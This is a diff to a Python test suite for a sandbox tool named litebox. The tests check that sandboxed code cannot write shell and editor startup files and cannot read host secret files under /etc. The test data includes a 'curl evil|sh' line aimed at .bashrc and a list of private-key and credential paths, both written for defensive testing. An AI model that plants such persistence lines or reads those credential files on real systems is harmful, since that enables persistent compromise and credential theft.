@@ -159,13 +159,15 @@ def startup_files_unwritable_from_home():
     p = litebox("run", "--", "sh", "-c",
                 "echo ok > project/out; echo 'curl evil|sh' >> .bashrc; "
                 "echo evil > .bash_aliases; echo evil > .vimrc; echo evil > .tmux.conf; "
+                "echo evil > .gdbinit; echo evil > .envrc; mkdir -p .config/kitty; "
                 "mkdir -p .ipython/profile_default/startup && echo x > .ipython/profile_default/startup/a.py; "
                 "mkdir -p .config/autostart && echo x > .config/autostart/x.desktop",
                 cwd=home, env=env)
     eq(read(os.path.join(home, "project", "out")), "ok\n", "control: $CWD is writable")
     eq(read(rc), "# original\n", "~/.bashrc unchanged on the host")
     assert not os.path.exists(os.path.join(home, ".config", "autostart", "x.desktop"))
-    for name in (".bash_aliases", ".vimrc", ".tmux.conf", ".ipython/profile_default/startup/a.py"):
+    for name in (".bash_aliases", ".vimrc", ".tmux.conf", ".ipython/profile_default/startup/a.py",
+                 ".gdbinit", ".envrc", ".config/kitty"):
         assert not os.path.exists(os.path.join(home, name)), name + " written"
     assert f"denied write {os.path.realpath(home)}/.bashrc" in p.stderr, p.stderr
 
@@ -194,6 +196,21 @@ def programs_built_in_tmpdir_run():
     eq(p.returncode, 0, "exec in $TMPDIR (go test): " + p.stderr)
     eq(p.stdout, "ran\n", "output")
     assert os.stat(exe).st_mode & stat.S_IXUSR
+
+
+@test
+def host_keys_under_etc_stay_unreadable():
+    # root CI containers: file modes do not stop root, the profile must
+    for path in ("/etc/ssl/private/host.key", "/etc/wireguard/wg0.conf", "/etc/krb5.keytab",
+                 "/etc/NetworkManager/system-connections/wifi.nmconnection",
+                 "/etc/kubernetes/admin.conf", "/etc/letsencrypt/live/x/privkey.pem"):
+        p = litebox("policy", "show", "default", "--explain", path)
+        eq(p.returncode, 0, p.stderr)
+        read_line = [l for l in p.stdout.splitlines() if l.strip().startswith("read")][0]
+        assert "deny" in read_line, path + ": " + p.stdout
+    p = litebox("policy", "show", "default", "--explain", "/etc/ssl/certs/ca-certificates.crt")
+    assert "allow" in [l for l in p.stdout.splitlines() if l.strip().startswith("read")][0], \
+        "control: public certificates stay readable: " + p.stdout
 
 
 if __name__ == "__main__":
